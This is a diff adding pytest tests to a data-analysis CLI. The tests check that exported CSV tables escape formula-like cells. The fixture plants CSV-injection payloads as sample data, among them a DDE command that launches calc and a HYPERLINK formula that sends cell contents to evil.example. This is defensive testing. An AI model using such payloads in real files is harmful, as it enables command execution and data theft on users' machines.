@@ -7,9 +7,11 @@ import json
 from collections.abc import Callable
 from pathlib import Path
 
+import pandas as pd
 import pytest
 from typer.testing import Result
 
+from carelens.cli.insights import TABLES, _spreadsheet_safe
 from carelens.errors import InputError
 from carelens.insights import Insights, records_from
 from carelens.insights.anonymize import local_key
@@ -358,3 +360,111 @@ def test_summarize_lists_the_top_communities_like_the_top_helpers(
     assert f"({len(records) - 2} more communities; see --tables)" in result.output
     with (tables / "communities.csv").open(encoding="utf-8") as fh:
         assert len(list(csv.DictReader(fh))) == len(records)
+
+
+#: What a spreadsheet may take as the start of a formula (CSV or formula injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_pairs(path: Path) -> Path:
+    """Pairs from untrusted users whose ids, names and communities begin like formulas."""
+    rows = [
+        {
+            "seeker_id": f"-s{i}",
+            "response_id": f"=r{i}",
+            "speaker": speaker,
+            "seeker_speaker": "=cmd|' /C calc'!A0",
+            "community": "+forum",
+            "timestamp": f"2024-0{i + 1}-01T10:00:00Z",
+            "seeker": '=HYPERLINK("http://evil.example/?"&A1,"click me") I feel so alone.',
+            "response": response,
+        }
+        for i, (speaker, response) in enumerate(
+            [
+                ("@maya", "@SUM(1+1) I'm so sorry. What happened?"),
+                ("'quoted", "-5 days is long. I'm here for you."),
+                ("@maya", "That sounds hard."),
+            ]
+        )
+    ]
+    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
+    return path
+
+
+def formula_cells(path: Path) -> list[str]:
+    """The text cells of a CSV file that a spreadsheet would run (a number such as -0.5
+    is a number, not a formula)."""
+
+    def is_number(cell: str) -> bool:
+        try:
+            float(cell)
+        except ValueError:
+            return False
+        return True
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    return [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]
+
+
+def test_summarize_tables_start_no_formula(invoke: Invoke, tmp_path: Path) -> None:
+    tables = tmp_path / "tables"
+    result = invoke("summarize", formula_pairs(tmp_path / "pairs.jsonl"), "--tables", tables)
+    assert result.exit_code == 0, result.output
+    for name in sorted(p.name for p in tables.iterdir()):
+        assert formula_cells(tables / name) == [], name
+    with (tables / "responses.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [(r["response_id"], r["helper"]) for r in rows] == [
+        ("'=r0", "'@maya"),
+        ("'=r1", "''quoted"),
+        ("'=r2", "'@maya"),
+    ]
+    assert {(r["seeker_id"][:2], r["community"], r["position"]) for r in rows} == {
+        ("'-", "'+forum", str(i)) for i in range(3)
+    }
+    # The names on screen are the data's, without the apostrophe of the CSV cells.
+    assert "@maya" in result.stdout and "'@maya" not in result.stdout
+
+
+def test_spreadsheet_safe_tables_keep_numbers_and_dates() -> None:
+    frame = pd.DataFrame(
+        {
+            "helper": ["-kit", "=1+1", "ann", None],
+            "slope": [-0.5, 1.0, None, -2.0],
+            "count": pd.array([-3, None, 1, 2], dtype="Int64"),
+            "mixed": ["@x", 4.5, True, None],
+            "when": pd.to_datetime(["2024-03-01", None, "2024-04-01", None], utc=True),
+        }
+    )
+    safe = _spreadsheet_safe(frame)
+    assert list(safe["helper"].iloc[:3]) == ["'-kit", "'=1+1", "ann"]
+    assert list(safe["mixed"].iloc[:3]) == ["'@x", 4.5, True]
+    for column in ("slope", "count", "when"):
+        assert safe[column].equals(frame[column]), column
+    assert frame["helper"].iloc[0] == "-kit"  # the frame itself is left as it was
+    text = safe.to_csv(index=False)
+    assert "-0.5" in text and "-3" in text and "'-kit" in text
+
+
+def test_summarize_and_report_read_csv_results_as_the_exact_formats(
+    invoke: Invoke, tmp_path: Path
+) -> None:
+    source = formula_pairs(tmp_path / "pairs.jsonl")
+    results = {fmt: tmp_path / fmt / f"results.{fmt}" for fmt in ("csv", "jsonl")}
+    screens, reports = {}, {}
+    for fmt, path in results.items():
+        assert invoke("analyze", source, "-o", path, "-q").exit_code == 0
+        tables = tmp_path / fmt / "tables"
+        summary = invoke("summarize", path, "--tables", tables)
+        assert summary.exit_code == 0, summary.output
+        screens[fmt] = summary.stdout.replace(str(tables), "TABLES")
+        html = tmp_path / fmt / "report.html"
+        assert invoke("report", path, "-o", html).exit_code == 0
+        reports[fmt] = html.read_text(encoding="utf-8").replace(path.name, "RESULTS")
+    assert screens["csv"] == screens["jsonl"]
+    assert "@maya" in screens["csv"] and "'@maya" not in screens["csv"]
+    assert reports["csv"] == reports["jsonl"]
+    for name in TABLES:
+        written = [(tmp_path / fmt / "tables" / f"{name}.csv").read_bytes() for fmt in results]
+        assert written[0] == written[1], name
